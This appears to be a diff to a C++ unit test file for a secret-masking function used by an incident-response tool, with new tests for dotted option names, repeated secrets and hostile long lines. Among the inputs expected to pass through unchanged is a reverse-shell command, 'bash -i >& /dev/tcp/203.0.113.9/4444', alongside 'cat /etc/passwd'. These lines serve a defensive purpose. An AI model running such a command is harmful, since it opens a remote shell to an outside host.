@@ -1,14 +1,15 @@
 // SPDX-License-Identifier: Apache-2.0
-#include "playbooks/reports/mask.h"
+#include "casefile/mask_secrets.h"
 
 #include <gtest/gtest.h>
 
-namespace firsthour::playbooks {
+namespace firsthour {
 namespace {
 
 TEST(MaskSecrets, HidesWhatFollowsTheNameOfASecret) {
   EXPECT_EQ(mask_secrets("app --password=hunter2 --port=80"), "app --password=**** --port=80");
   EXPECT_EQ(mask_secrets("app --password hunter2 --port 80"), "app --password **** --port 80");
+  EXPECT_EQ(mask_secrets("app --db.password=hunter2 -v"), "app --db.password=**** -v");
   EXPECT_EQ(mask_secrets("PASSWORD=hunter2 HOME=/root"), "PASSWORD=**** HOME=/root");
   EXPECT_EQ(mask_secrets("MYSQL_ROOT_PASSWORD='a b c' X=1"), "MYSQL_ROOT_PASSWORD='****' X=1");
   EXPECT_EQ(mask_secrets("GET /x?token=abc&user=me"), "GET /x?token=****&user=me");
@@ -27,6 +28,7 @@ TEST(MaskSecrets, HidesInsideJson) {
 
 TEST(MaskSecrets, HidesThePasswordOfAnAddress) {
   EXPECT_EQ(mask_secrets("curl https://me:hunter2@example.org/x"), "curl https://me:****@example.org/x");
+  EXPECT_EQ(mask_secrets("curl https://example.org:8443/@x"), "curl https://example.org:8443/@x");
   EXPECT_EQ(mask_secrets("redis://:p@ss@192.0.2.1:6379/0"), "redis://:****@192.0.2.1:6379/0");
 }
 
@@ -45,11 +47,28 @@ TEST(MaskSecrets, HidesHeadersKeysAndTokensByTheirShape) {
 }
 
 TEST(MaskSecrets, LeavesOrdinaryTextAlone) {
-  for (const char* text : {"/etc/passwd: root owns it", "cat /etc/passwd", "PWD=/root OLDPWD=/var",
-                           R"({"user.password_state":"set"})", "http://192.0.2.1:8080/a@b",
-                           "ssh -p 2222 host", "mysql -p app", "host.authorized_key", "key.type: ssh-ed25519",
-                           "curl -u me https://x", "", "--password", "password="})
+  for (const char* text :
+       {"/etc/passwd: root owns it", "cat /etc/passwd", "cat /etc/passwd-",
+        "bash -i >& /dev/tcp/203.0.113.9/4444", "PWD=/root OLDPWD=/var", R"({"user.password_state":"set"})",
+        "http://192.0.2.1:8080/a@b", "ssh -p 2222 host", "mysql -p app", "host.authorized_key",
+        "key.type: ssh-ed25519", "curl -u me https://x", "", "--password", "password="})
     EXPECT_EQ(mask_secrets(text), text);
+}
+
+TEST(MaskSecrets, HidesASecretFoundTwiceOnce) {
+  EXPECT_EQ(mask_secrets("curl -u me:S3cr3t --password=S3cr3t"), "curl -u me:**** --password=****");
+  EXPECT_EQ(mask_secrets("token=AKIAABCDEFGHIJKLMNOP x"), "token=**** x");
+  EXPECT_EQ(mask_secrets("Authorization: Bearer hunter2hunter2"), "Authorization: ****");
+}
+
+// Each of these makes a scan that begins anew at every start take minutes: then the test runs into its limit.
+TEST(MaskSecrets, TakesALongHostileLineInLinearTime) {
+  for (const std::string_view part : {"://", "://a:", "-----BEGIN ", "mysql -px ", "curl -u a ", "AKIA ",
+                                      "eyJ/", "密码", "token ", "\"", "password=\\\""}) {
+    std::string line;
+    while (line.size() < (1 << 20)) line += part;
+    EXPECT_LE(mask_secrets(line).size(), 2 * line.size()) << part;
+  }
 }
 
 TEST(MaskSecrets, TakesALongLine) {
@@ -58,4 +77,4 @@ TEST(MaskSecrets, TakesALongLine) {
 }
 
 }  // namespace
-}  // namespace firsthour::playbooks
+}  // namespace firsthour
